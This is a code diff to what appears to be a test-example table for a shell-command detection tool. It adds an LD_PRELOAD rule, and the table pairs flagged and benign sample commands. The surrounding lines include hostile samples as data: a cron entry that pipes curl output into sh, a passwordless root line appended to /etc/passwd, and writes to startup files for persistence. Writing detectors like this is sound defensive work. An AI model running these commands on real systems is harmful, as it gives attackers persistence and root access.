@@ -219,6 +219,7 @@ EXAMPLES: dict[str, tuple[list[Example], list[Example]]] = {
     "shell.cron-persistence": (["echo '* * * * * curl x | sh' >> /etc/crontab",
                                 "echo 'import os' > ~/.local/lib/python3.11/site-packages/usercustomize.py"],
                                ["crontab -l"]),
+    "shell.library-preload": (["LD_PRELOAD=/tmp/hook.so ls"], ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server"]),
     "shell.profile-write": (["echo 'alias ll=\"ls -la\"' >> ~/.bashrc"], ["cat ~/.bashrc"]),
     "shell.write-critical-file": (["echo 'x::0:0::/root:/bin/bash' >> /etc/passwd"], ["grep root /etc/group"]),
     "shell.write-system": (["curl -o /usr/local/bin/helper https://example.com/h"], ["curl -o ./helper https://example.com/h"]),
